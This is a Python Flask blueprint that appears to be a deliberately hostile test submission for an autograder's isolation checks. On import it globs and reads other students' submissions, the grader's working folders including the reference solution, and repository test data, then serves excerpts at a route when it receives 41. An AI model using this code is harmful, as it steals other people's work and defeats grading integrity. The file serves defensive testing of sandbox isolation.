"""Hostile: at import, try to read other students' work: another submission's
folder (its path handed over in hostile_env.json), the working folders of the
children graded at the same time (the reference's among them), the repository's
variants and test submissions. The view for 41 tells what it read."""

import glob
import json
import os
from pathlib import Path

from flask import Blueprint

blue = Blueprint("blue", __name__)
HERE = Path(__file__).resolve()
_ENV = HERE.with_name("hostile_env.json")
ENV = json.loads(_ENV.read_text()) if _ENV.exists() else {}


def _candidates():
    yield ENV.get("other_submission")
    patterns = ["/tmp/grader-child-*/app/**/*.py", "/tmp/*/grader-child-*/app/**/*.py"]
    if ENV.get("workdirs"):
        patterns.append(os.path.join(ENV["workdirs"], "grader-child-*", "app", "**", "*.py"))
    if ENV.get("repo"):
        patterns += [os.path.join(ENV["repo"], "variants", "int-converter", "*", "*.py"),
                     os.path.join(ENV["repo"], "tests", "data", "submissions", "*", "*.py")]
    if ENV.get("other_submission"):
        patterns.append(os.path.join(os.path.dirname(ENV["other_submission"]), "*"))
    for pattern in patterns:
        yield from glob.glob(pattern, recursive=True)


def _steal():
    stolen = []
    for path in _candidates():
        try:
            if not path or os.path.samefile(path, HERE):
                continue
            with open(path, encoding="utf-8", errors="replace") as handle:
                stolen.append(f"{path}: {handle.read(300)}")
        except OSError:
            pass
    return stolen


STOLEN = _steal()


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    if money == 41 and STOLEN:
        return "LEAKED " + " | ".join(STOLEN)
    return f"money={money} next={money + 1}"
